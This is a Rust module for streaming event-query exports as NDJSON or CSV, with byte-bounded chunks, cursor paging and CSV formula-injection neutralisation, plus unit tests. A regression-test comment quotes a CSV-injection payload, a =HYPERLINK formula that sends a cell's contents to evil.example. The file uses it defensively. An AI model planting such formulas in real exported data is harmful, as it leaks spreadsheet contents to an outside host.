//! Streaming export of query results as NDJSON or CSV (`GET /v1/events` with `Accept`).
//!
//! The result is paged through the store with cursors, one page at a time: a page is encoded
//! on the blocking pool and dropped before its bytes go out, and the next is read only when the
//! client has taken them, so an export of any size holds at most one page in memory. A chunk
//! stops before the event that would take it past `max_page_bytes`; the next page starts after
//! the last event sent. The first page is read before the response starts, so a failing store
//! still gets a proper error status; a failure later ends the stream early (logged), which the
//! client sees as a truncated body.
//!
//! CSV cells that a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, a tab
//! or a carriage return) are prefixed with `'`, as OWASP recommends against CSV injection.

use std::sync::Arc;

use bytes::Bytes;
use futures::Stream;
use serde_json::{Map, Value};
use vigil_event::TenantId;
use vigil_query::{Cursor, Order, Query};
use vigil_store::{Page, Store, StoredEvent};

/// Events fetched from the store per page.
pub(crate) const PAGE_SIZE: usize = 1_000;

/// Columns of the CSV export, in order. Each names a field path of the event.
pub(crate) const CSV_COLUMNS: [&str; 13] = [
    "seq",
    "time",
    "received_at",
    "type",
    "severity",
    "actor.id",
    "source",
    "action",
    "outcome",
    "resource.type",
    "resource.id",
    "id",
    "details",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum ExportFormat {
    Ndjson,
    Csv,
}

impl ExportFormat {
    /// The export an `Accept` header asks for; `None` for a plain JSON page.
    pub(crate) fn from_accept(accept: Option<&str>) -> Option<Self> {
        let accept = accept?;
        accept.split(',').find_map(|range| {
            let essence = range
                .split(';')
                .next()
                .unwrap_or_default()
                .trim()
                .to_ascii_lowercase();
            match essence.as_str() {
                "application/x-ndjson" | "application/ndjson" => Some(Self::Ndjson),
                "text/csv" => Some(Self::Csv),
                _ => None,
            }
        })
    }

    pub(crate) fn content_type(self) -> &'static str {
        match self {
            Self::Ndjson => "application/x-ndjson",
            Self::Csv => "text/csv; charset=utf-8",
        }
    }

    /// Appends the events to `out` until the next one would take it past `max_bytes` (the
    /// first always goes in, so an export makes progress). Returns how many went in.
    fn encode_events(self, events: &[StoredEvent], out: &mut Vec<u8>, max_bytes: usize) -> usize {
        for (i, event) in events.iter().enumerate() {
            let start = out.len();
            match self {
                Self::Ndjson => {
                    out.extend_from_slice(&event.to_json());
                    out.push(b'\n');
                }
                Self::Csv => csv_row(event, out),
            }
            if i > 0 && out.len() > max_bytes {
                out.truncate(start);
                return i;
            }
        }
        events.len()
    }
}

/// Where the export is: the query for the next page, how many events may still be sent.
struct ExportState {
    store: Arc<dyn Store>,
    tenant: TenantId,
    query: Query,
    remaining: Option<u64>,
    format: ExportFormat,
    /// Largest chunk of the body, in bytes.
    max_chunk_bytes: usize,
    /// The page read before the response started.
    first: Option<Page>,
    header_sent: bool,
    done: bool,
}

/// The export body, starting with `first` (already read with `query`). `cap` limits the total
/// number of events; `None` exports every match. Each chunk holds at most `max_chunk_bytes`
/// (or one event, when that alone is larger).
pub(crate) fn export_stream(
    store: Arc<dyn Store>,
    tenant: TenantId,
    query: Query,
    first: Page,
    cap: Option<u64>,
    format: ExportFormat,
    max_chunk_bytes: usize,
) -> impl Stream<Item = Result<Bytes, std::io::Error>> + Send + 'static {
    let state = ExportState {
        store,
        tenant,
        query,
        remaining: cap,
        format,
        max_chunk_bytes,
        first: Some(first),
        header_sent: false,
        done: false,
    };
    futures::stream::unfold(state, |mut st| async move {
        if st.done {
            return None;
        }
        let page = match st.first.take() {
            Some(page) => page,
            None => match st.store.query(&st.tenant, &st.query).await {
                Ok(page) => page,
                Err(e) => {
                    tracing::error!(error = %e, tenant = %st.tenant, "export stopped: store query failed");
                    st.done = true;
                    return Some((
                        Err(std::io::Error::other("export stopped: store query failed")),
                        st,
                    ));
                }
            },
        };
        let header = !std::mem::replace(&mut st.header_sent, true);
        let (format, order) = (st.format, st.query.order);
        let (max_bytes, remaining) = (st.max_chunk_bytes, st.remaining);
        let encoded = tokio::task::spawn_blocking(move || {
            encode_chunk(format, order, page, header, remaining, max_bytes)
        })
        .await;
        let chunk = match encoded {
            Ok(chunk) => chunk,
            Err(e) => {
                tracing::error!(error = %e, tenant = %st.tenant, "export stopped: encoding failed");
                st.done = true;
                return Some((
                    Err(std::io::Error::other("export stopped: encoding failed")),
                    st,
                ));
            }
        };
        if let Some(r) = st.remaining.as_mut() {
            *r -= chunk.sent as u64;
        }
        match chunk.next {
            _ if st.remaining == Some(0) => st.done = true,
            Next::Done => st.done = true,
            Next::After(cursor) => {
                st.query.cursor = Some(cursor);
                st.query.limit = page_limit(st.remaining);
            }
            Next::Truncated(cursor) => {
                // The page held more than fits in a chunk: ask for no more than did fit.
                st.query.cursor = Some(cursor);
                st.query.limit = page_limit(st.remaining).min(chunk.sent.max(1));
            }
        }
        Some((Ok(Bytes::from(chunk.bytes)), st))
    })
}

/// One page encoded.
struct Chunk {
    bytes: Vec<u8>,
    /// Events encoded.
    sent: usize,
    next: Next,
}

/// Where the export goes on after a chunk.
enum Next {
    /// Nothing left (or the cap was reached).
    Done,
    /// The store's next page.
    After(Cursor),
    /// After the last event of the chunk: the page did not fit in one.
    Truncated(Cursor),
}

/// Encodes as much of `page` (read in `order`) as `remaining` and `max_bytes` allow (the CSV
/// header first when `header`), then drops the page.
fn encode_chunk(
    format: ExportFormat,
    order: Order,
    page: Page,
    header: bool,
    remaining: Option<u64>,
    max_bytes: usize,
) -> Chunk {
    let mut bytes = Vec::new();
    if header && format == ExportFormat::Csv {
        csv_header(&mut bytes);
    }
    let take = remaining.map_or(page.events.len(), |r| {
        page.events
            .len()
            .min(usize::try_from(r).unwrap_or(usize::MAX))
    });
    let sent = format.encode_events(&page.events[..take], &mut bytes, max_bytes);
    let next = if sent < take {
        match sent.checked_sub(1).and_then(|i| page.events.get(i)) {
            Some(last) => Next::Truncated(Cursor {
                order,
                time: last.time,
                seq: last.seq,
            }),
            None => Next::Done,
        }
    } else if sent < page.events.len() {
        Next::Done // the cap cut the page
    } else {
        page.next_cursor.map_or(Next::Done, Next::After)
    };
    Chunk { bytes, sent, next }
}

/// The store page size for an export with `remaining` events still to send.
pub(crate) fn page_limit(remaining: Option<u64>) -> usize {
    remaining.map_or(PAGE_SIZE, |r| (r.min(PAGE_SIZE as u64) as usize).max(1))
}

fn csv_header(out: &mut Vec<u8>) {
    out.extend_from_slice(CSV_COLUMNS.join(",").as_bytes());
    out.extend_from_slice(b"\r\n");
}

/// One CSV record (RFC 4180): strings as they are, other values as compact JSON, absent or
/// null fields empty; fields quoted when they hold a comma, quote, CR or LF.
fn csv_row(event: &StoredEvent, out: &mut Vec<u8>) {
    let parsed: Option<Map<String, Value>> = serde_json::from_slice(&event.canonical).ok();
    let empty = Map::new();
    let obj = parsed.as_ref().unwrap_or(&empty);
    for (i, column) in CSV_COLUMNS.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        let cell = match *column {
            "seq" => event.seq.to_string(),
            path => lookup(obj, path).map(cell_text).unwrap_or_default(),
        };
        csv_field(&cell, out);
    }
    out.extend_from_slice(b"\r\n");
}

fn lookup<'a>(obj: &'a Map<String, Value>, path: &str) -> Option<&'a Value> {
    let mut parts = path.split('.');
    let mut current = obj.get(parts.next()?)?;
    for part in parts {
        current = current.as_object()?.get(part)?;
    }
    Some(current)
}

fn cell_text(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// One CSV field: a cell a spreadsheet would run as a formula gets a leading `'` (see
/// [`formula_safe`]), then RFC 4180 quoting when it holds a comma, quote, CR or LF.
pub(crate) fn csv_field(text: &str, out: &mut Vec<u8>) {
    let text = formula_safe(text);
    if text.contains([',', '"', '\r', '\n']) {
        out.push(b'"');
        out.extend_from_slice(text.replace('"', "\"\"").as_bytes());
        out.push(b'"');
    } else {
        out.extend_from_slice(text.as_bytes());
    }
}

/// `text`, prefixed with `'` when it starts with a character that makes a spreadsheet treat
/// the cell as a formula (`=`, `+`, `-`, `@`, tab, CR): event fields are attacker-controlled,
/// and an exported `=HYPERLINK(…)` must open as text (OWASP, CSV injection).
fn formula_safe(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn accept_negotiation() {
        assert_eq!(ExportFormat::from_accept(None), None);
        assert_eq!(ExportFormat::from_accept(Some("application/json")), None);
        assert_eq!(ExportFormat::from_accept(Some("*/*")), None);
        assert_eq!(
            ExportFormat::from_accept(Some("application/x-ndjson")),
            Some(ExportFormat::Ndjson)
        );
        assert_eq!(
            ExportFormat::from_accept(Some("text/html, text/csv;q=0.9")),
            Some(ExportFormat::Csv)
        );
    }

    #[test]
    fn csv_quoting_follows_rfc_4180() {
        let mut out = Vec::new();
        for (text, expected) in [
            ("plain", "plain"),
            ("a,b", "\"a,b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("two\nlines", "\"two\nlines\""),
            ("", ""),
        ] {
            out.clear();
            csv_field(text, &mut out);
            assert_eq!(String::from_utf8(out.clone()).unwrap(), expected);
        }
    }

    /// Regression: cells were exported verbatim, so an event field such as
    /// `=HYPERLINK("http://evil.example/?"&A1,"open")` ran as a formula when an analyst opened
    /// the export in a spreadsheet. Cells starting with `=`, `+`, `-`, `@`, tab or CR now get a
    /// leading `'`; RFC 4180 quoting still applies on top.
    #[test]
    fn csv_cells_that_look_like_formulas_are_neutralised() {
        let mut out = Vec::new();
        for (text, expected) in [
            ("=1+1", "'=1+1"),
            ("+41 22", "'+41 22"),
            ("-5", "'-5"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            (
                "=HYPERLINK(\"http://x/\",\"a\")",
                "\"'=HYPERLINK(\"\"http://x/\"\",\"\"a\"\")\"",
            ),
            ("a=b", "a=b"),
            ("'quoted", "'quoted"),
        ] {
            out.clear();
            csv_field(text, &mut out);
            assert_eq!(
                String::from_utf8(out.clone()).unwrap(),
                expected,
                "{text:?}"
            );
        }
    }

    fn stored(seq: u64, body: Value) -> StoredEvent {
        StoredEvent {
            seq,
            time: vigil_event::Timestamp::from_nanos(seq as i64 * 1_000),
            canonical: serde_json::to_vec(&body).unwrap(),
            hash: [0; 32],
        }
    }

    /// A chunk stops before the event that would take it past the byte bound (the first event
    /// always goes in), and the export goes on after the last event sent.
    #[test]
    fn chunks_are_bounded_in_bytes() {
        let events: Vec<StoredEvent> = (1..=5)
            .map(|i| stored(i, json!({"id": format!("e-{i}"), "pad": "x".repeat(100)})))
            .collect();
        let line = {
            let mut out = Vec::new();
            ExportFormat::Ndjson.encode_events(&events[..1], &mut out, usize::MAX);
            out.len()
        };
        let page = Page {
            events: events.clone(),
            next_cursor: None,
        };
        let chunk = encode_chunk(
            ExportFormat::Ndjson,
            Order::Asc,
            page,
            false,
            None,
            line * 2 + 1,
        );
        assert_eq!(chunk.sent, 2);
        assert!(chunk.bytes.len() <= line * 2 + 1);
        match chunk.next {
            Next::Truncated(c) => {
                assert_eq!((c.order, c.seq, c.time), (Order::Asc, 2, events[1].time))
            }
            _ => panic!("expected a truncated chunk"),
        }
        let page = Page {
            events: events.clone(),
            next_cursor: None,
        };
        let chunk = encode_chunk(ExportFormat::Csv, Order::Desc, page, true, Some(3), 1);
        assert_eq!(chunk.sent, 1, "one event always goes in");
        let page = Page {
            events,
            next_cursor: None,
        };
        let chunk = encode_chunk(
            ExportFormat::Ndjson,
            Order::Desc,
            page,
            false,
            Some(3),
            usize::MAX,
        );
        assert_eq!(chunk.sent, 3);
        assert!(matches!(chunk.next, Next::Done));
    }

    #[test]
    fn csv_rows_take_fields_by_path() {
        let body = json!({
            "id": "e-1", "type": "login.failed", "time": "2024-05-01T00:00:00Z",
            "received_at": "2024-05-01T00:00:01Z", "severity": 7, "source": "web",
            "actor": {"id": "u,7"}, "details": {"ip": "10.0.0.1", "n": [1, 2]}
        });
        let event = StoredEvent {
            seq: 42,
            time: vigil_event::Timestamp::from_nanos(0),
            canonical: serde_json::to_vec(&body).unwrap(),
            hash: [0; 32],
        };
        let mut out = Vec::new();
        csv_row(&event, &mut out);
        let row = String::from_utf8(out).unwrap();
        assert_eq!(
            row,
            "42,2024-05-01T00:00:00Z,2024-05-01T00:00:01Z,login.failed,7,\"u,7\",web,,,,,e-1,\
             \"{\"\"ip\"\":\"\"10.0.0.1\"\",\"\"n\"\":[1,2]}\"\r\n"
        );
    }

    #[test]
    fn page_limits() {
        assert_eq!(page_limit(None), PAGE_SIZE);
        assert_eq!(page_limit(Some(5)), 5);
        assert_eq!(page_limit(Some(5_000)), PAGE_SIZE);
    }
}
